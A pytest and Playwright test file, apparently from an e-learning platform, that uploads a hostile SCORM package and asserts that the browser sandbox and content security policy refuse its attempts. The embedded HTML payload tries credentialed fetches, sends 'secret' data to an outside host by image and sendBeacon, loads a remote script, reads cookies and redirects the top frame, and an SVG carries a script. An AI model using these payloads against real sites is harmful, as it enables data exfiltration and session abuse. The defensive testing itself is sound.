"""A package that attacks: each of its attempts is refused by the browser or the server, and what it tried is logged."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.factories.packages import scorm_package
from tests.journeys.commons import deposit
from tests.running_site import Site

Person = Callable[..., Page]
ATTACK = """<!doctype html><meta charset="utf-8"><title>Attaque</title><pre id="out"></pre><script>
const PLATFORM = %(platform)s, ELSEWHERE = %(elsewhere)s;
const tried = {};
async function attempt(name, what) {
  try { tried[name] = String(await what()).slice(0, 80); } catch (error) { tried[name] = "refused"; }
}
const picture = (address) => new Promise((yes, no) => {
  const image = new Image(); image.onload = () => yes("seen"); image.onerror = no; image.src = address;
});
const framed = (address) => new Promise((yes, no) => {
  const frame = document.createElement("iframe"); frame.src = address; document.body.append(frame);
  frame.onload = () => { try { yes(frame.contentDocument.body.innerText); } catch (error) { no(error); } };
  setTimeout(no, 3000);
});
(async () => {
  const mine = { credentials: "include" };
  await attempt("page", async () => (await fetch(PLATFORM + "/organisations/", mine)).status);
  await attempt("blind", async () => (await fetch(PLATFORM + "/organisations/", { ...mine, mode: "no-cors" })).type);
  await attempt("elsewhere", async () => (await fetch(ELSEWHERE, { mode: "no-cors" })).type);
  await attempt("image", () => picture(ELSEWHERE + "?secret=1"));
  await attempt("beacon", () => navigator.sendBeacon(ELSEWHERE + "?beacon=1", "secret"));
  await attempt("worker", async () => (await navigator.serviceWorker.register("worker.js")).scope);
  await attempt("cookies", () => document.cookie || "none");
  await attempt("above", () => window.top.document.title);
  await attempt("top", () => { window.top.location.href = ELSEWHERE; return "moved"; });
  await attempt("frame", () => framed(PLATFORM + "/organisations/"));
  await attempt("script", () => new Promise((yes, no) => {
    const script = document.createElement("script"); script.src = ELSEWHERE + "/a.js";
    script.onload = () => yes("run"); script.onerror = no; document.head.append(script);
  }));
  document.getElementById("out").textContent = JSON.stringify(tried);
})();
</script>"""
SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>document.title = "run"; window.top.location = "/"</script></svg>'


@pytest.fixture
def elsewhere() -> Any:
    """A server of somebody else: the addresses that it was asked for."""
    asked: list[str] = []

    class Other(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the same

        def log_message(self, *_told: object) -> None:
            pass

    server = HTTPServer(("127.0.0.1", 0), Other)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()


def hostile(folder: Path, site: Site, address: str, name: str) -> Path:
    """A package whose page tries everything."""
    page = ATTACK % {"platform": json.dumps(site.address), "elsewhere": json.dumps(address)}
    files: dict[str, str | bytes] = {"index.html": page, "worker.js": "self.onfetch = () => {};", "image.svg": SVG}
    path = folder / name
    path.write_bytes(scorm_package({**files, "propre.txt": name}))
    return path


def tried(page: Page) -> dict[str, str]:
    """What became of each attempt."""
    out = page.frame_locator("iframe.play__frame").frame_locator("#content").locator("#out")
    expect(out).not_to_be_empty(timeout=20_000)
    found: dict[str, str] = json.loads(out.inner_text())
    return found


def test_nothing_of_what_a_hostile_package_tries_succeeds(
    site: Site, page_as: Person, tmp_path: Path, elsewhere: tuple[str, list[str]]
) -> None:
    address, asked = elsewhere
    page = page_as("lead")
    version = deposit(page, hostile(tmp_path, site, address, "attaque.zip"))
    page.goto(f"/ressources/versions/{version}/essayer/")
    shown = page.url
    found = tried(page)
    refused = {"page", "blind", "elsewhere", "image", "worker", "above", "top", "frame", "script"}
    assert {each: found[each] for each in refused} == dict.fromkeys(refused, "refused")
    assert found["cookies"] == "none"
    assert page.url == shown
    assert asked == []
    page.goto("/organisations/")
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    log = next(Path(site.variables["FILES_FOLDER"]).parent.glob("*application.log")).read_text()
    assert f"connect-src of {site.address}" in log


def test_a_package_reads_nothing_that_another_one_stored(
    site: Site, page_as: Person, tmp_path: Path, elsewhere: tuple[str, list[str]]
) -> None:
    """Even in a window of its own, where browsers let a page store what it likes."""
    page = page_as("lead")
    found = []
    for name in ("premier.zip", "second.zip"):
        version = deposit(page, hostile(tmp_path, site, elsewhere[0], name))
        page.goto(f"/ressources/versions/{version}/essayer/")
        tried(page)
        address = next(each.url for each in page.frames if "/t/" in each.url)
        alone = page.context.new_page()
        alone.goto(address.replace("index.html", "worker.js"))
        found.append(alone.evaluate("[document.cookie, localStorage.getItem('voisin')]"))
        alone.evaluate("document.cookie = 'voisin=secret'; localStorage.setItem('voisin', 'secret')")
        assert alone.evaluate("localStorage.getItem('voisin')") == "secret"
    assert found == [["", None], ["", None]]


def test_a_drawing_with_a_script_stays_on_its_host(
    site: Site, page_as: Person, tmp_path: Path, elsewhere: tuple[str, list[str]]
) -> None:
    page = page_as("lead")
    version = deposit(page, hostile(tmp_path, site, elsewhere[0], "dessin.zip"))
    page.goto(f"/ressources/versions/{version}/essayer/")
    tried(page)
    frame = next(each for each in page.frames if "/t/" in each.url)
    answer = page.context.new_page().goto(frame.url.replace("index.html", "image.svg"))
    assert answer is not None
    assert "sandbox" in answer.headers["content-security-policy"]
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "set-cookie" not in answer.headers
    assert page.context.cookies(frame.url) == []
